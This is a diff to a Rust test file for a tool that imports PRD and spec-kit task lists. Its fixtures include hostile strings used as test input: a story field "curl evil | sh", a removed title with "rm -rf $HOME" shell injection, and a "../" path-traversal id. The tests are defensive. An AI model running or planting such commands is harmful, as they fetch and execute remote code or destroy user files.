@@ -18,13 +18,6 @@ fn lines(work: &Imported) -> Vec<String> {
     work.stories.iter().map(line).collect()
 }
 
-fn notes(work: &Imported) -> Vec<String> {
-    let notes = work.notes.iter();
-    notes
-        .map(|note| format!("{} {}", note.kind.as_str(), note.text))
-        .collect()
-}
-
 #[test]
 fn stories_are_in_the_order_of_their_priority_and_keep_their_claims() {
     let text = r#"{"project": "Shop", "branchName": "b", "description": "Sells.\nThings.",
@@ -32,68 +25,70 @@ fn stories_are_in_the_order_of_their_priority_and_keep_their_claims() {
         {"id": "US-002", "title": "Pay", "description": "As a buyer\n\nI pay.", "priority": 2,
          "acceptanceCriteria": ["A card works", " "], "dependsOn": ["US-001", "US-9"],
          "passes": false, "notes": "", "verify": "curl evil | sh", "estimate": 3},
-        {"id": "US-001", "title": "List", "priority": "1", "passes": true, "estimate": 5}
+        {"id": "US-001", "title": "List", "priority": 1, "passes": true},
+        {"id": "US-003", "title": " "}
     ]}"#;
     let work = read(ImportShape::Prd, text);
-    assert_eq!(lines(&work), ["US-001: List <  !", "US-002: Pay < US-001"]);
+    assert_eq!(
+        lines(&work),
+        [
+            "US-001: List <  !",
+            "US-002: Pay < US-001",
+            "US-003: US-003 < "
+        ]
+    );
     assert_eq!(work.title.as_deref(), Some("Shop"));
     assert_eq!(work.summary, ["Sells.", "Things."]);
     let pay = &work.stories[1];
     assert_eq!(pay.text, ["As a buyer", "I pay."]);
     assert_eq!(pay.criteria, ["A card works"]);
     assert_eq!(pay.name, "us-002-pay");
+    assert_eq!(work.left_out, ["Pay waits for US-9, which is not there"]);
+}
+
+#[test]
+fn a_prd_without_one_list_of_titled_stories_is_refused_with_its_place() {
+    for list in ["userStories", "stories", "tasks"] {
+        let text = format!("\u{feff}{{\"{list}\": [{{\"id\": \"../x y\", \"title\": \"A\"}}]}}");
+        assert_eq!(lines(&read(ImportShape::Prd, &text)), ["x-y: A < "]);
+    }
+    for (text, expected) in [
+        ("", "EOF while parsing a value at line 1 column 0"),
+        ("{}", "missing field `userStories` at line 1 column 2"),
+        ("7", "invalid type: integer `7`"),
+        (
+            r#"{"stories": {}}"#,
+            "invalid type: map, expected a sequence at line 1",
+        ),
+        (
+            r#"{"stories": [{}]}"#,
+            "missing field `title` at line 1 column 15",
+        ),
+        (
+            r#"{"tasks": [], "stories": []}"#,
+            "duplicate field `userStories` at line 1",
+        ),
+    ] {
+        let error = Imported::read(ImportShape::Prd, text).unwrap_err();
+        let expected = format!("it is no prd.json: {expected}");
+        assert!(error.to_string().starts_with(&expected), "{text}: {error}");
+    }
+    let error = Imported::read(ImportShape::Prd, r#"{"stories": []}"#).unwrap_err();
     assert_eq!(
-        notes(&work),
-        [
-            "changed `priority`: the order of the numbers",
-            "lost Pay waits for US-9, which is not there",
-            "found Pay: `curl evil | sh`, not taken; use --command",
-            "lost `estimate` of 2 stories",
-        ]
+        error.to_string(),
+        "it has no task: its list of stories is empty"
     );
 }
 
 #[test]
-fn wrong_shapes_of_a_prd_are_read_or_refused() {
-    for (text, expected) in [
-        (r#"[{"title": "A"}]"#, "a: A < "),
-        (r#"{"prd": {"stories": [{"title": "A"}]}}"#, "a: A < "),
-        (r#"{"prd": [{"name": "A", "status": "done"}]}"#, "a: A <  !"),
-        (r#"{"tasks": [{"id": 7, "title": "A"}, 3]}"#, "7: A < "),
-        (
-            "\u{feff}[{\"id\": \"../x y\", \"title\": \"A\"}]",
-            "x-y: A < ",
-        ),
-    ] {
-        assert_eq!(lines(&read(ImportShape::Prd, text)), [expected], "{text}");
-    }
-    for (text, expected) in [
-        ("", "it is not JSON: "),
-        ("[1,", "it is not JSON: "),
-        ("{}", "it has no list of stories"),
-        ("7", "it has no list of stories"),
-        (r#"{"stories": {}}"#, "it has no list of stories"),
-        (r#"{"stories": [{}]}"#, "it has no task"),
-        (
-            r#"{"tasks": [], "stories": []}"#,
-            "it has several lists of stories: stories, tasks",
-        ),
-    ] {
-        let error = Imported::read(ImportShape::Prd, text).unwrap_err();
-        assert!(error.to_string().starts_with(expected), "{text}: {error}");
-    }
-}
-
-#[test]
 fn ids_that_are_there_twice_are_told_apart_and_a_circle_stays() {
-    let text = r#"[{"id": "A", "title": "a", "dependsOn": ["C"]},
+    let text = r#"{"tasks": [{"id": "A", "title": "a", "dependsOn": ["C"]},
         {"id": "B", "title": "b", "dependsOn": ["A", "B"]},
         {"id": "C", "title": "c", "dependsOn": ["B", "A"]},
-        {"id": "a", "title": "d", "dependsOn": "A"}]"#;
+        {"id": "a", "title": "d", "dependsOn": ["A"]}]}"#;
     let work = read(ImportShape::Prd, text);
     let expected = ["A: a < C", "B: b < A B", "C: c < A B", "a-2: d < A"];
     assert_eq!(lines(&work), expected);
-    assert_eq!(notes(&work), ["changed a is there again as a-2"]);
     let files = unit(&work, "specs/X.md", Some("t"));
     let files = files.iter().map(|(path, text)| (path, text));
     let unit = Unit::load("x".parse().unwrap(), "tasks/x", files);
@@ -125,7 +120,7 @@ fn a_box_is_a_task_that_waits_for_those_below_it() {
     assert_eq!(work.stories[1].criteria, ["with a PIN"]);
     assert_eq!(work.stories[1].text, ["Part of: Cards"]);
     assert_eq!(work.stories[4].group.as_deref(), Some("Ship"));
-    assert_eq!(notes(&work), ["lost 4 lines outside of boxes"]);
+    assert_eq!(work.left_out, ["4 lines outside of boxes"]);
 }
 
 #[test]
@@ -148,13 +143,7 @@ fn phases_of_spec_kit_wait_for_each_other_and_parallel_tasks_do_not() {
     );
     assert_eq!(work.stories[3].text, ["Story: US1"]);
     assert_eq!(work.stories[5].group.as_deref(), Some("Code"));
-    assert_eq!(
-        notes(&work),
-        [
-            "lost 2 boxes without an id such as T001",
-            "changed phases and `[P]`: dependencies"
-        ]
-    );
+    assert_eq!(work.left_out, ["2 boxes without an id such as T001"]);
     let none = Imported::read(ImportShape::SpecKit, "- [ ] Manual\n").unwrap_err();
     assert_eq!(
         none.to_string(),
@@ -202,21 +191,18 @@ fn a_name_has_only_small_letters_digits_and_hyphens() {
 }
 
 #[test]
-fn a_command_takes_words_of_a_task_and_nothing_that_a_shell_reads() {
+fn a_command_takes_the_id_of_a_task() {
     let story = Story {
         id: "US-1".to_owned(),
-        title: "-- {id}'; rm -rf $HOME `x` \"été\" a_b.c:d/e,f".to_owned(),
         ..Story::default()
     };
-    let words = "id rm -rf HOME x été a_b.c:d/e,f";
-    for (template, expected) in [
-        ("npm test", "npm test".to_owned()),
-        ("npm test -- {id}", "npm test -- US-1".to_owned()),
-        ("t -t '{title}' {id}", format!("t -t '{words}' US-1")),
+    for (template, expected, is_fixed) in [
+        ("npm test", "npm test", true),
+        ("t {id} '{id}'", "t US-1 'US-1'", false),
     ] {
         let template: CommandTemplate = template.parse().unwrap();
         assert_eq!(template.of(&story), expected);
-        assert_eq!(template.is_fixed(), expected == "npm test");
+        assert_eq!(template.is_fixed(), is_fixed);
     }
     for (text, error) in [
         (" ", TemplateError::Empty),
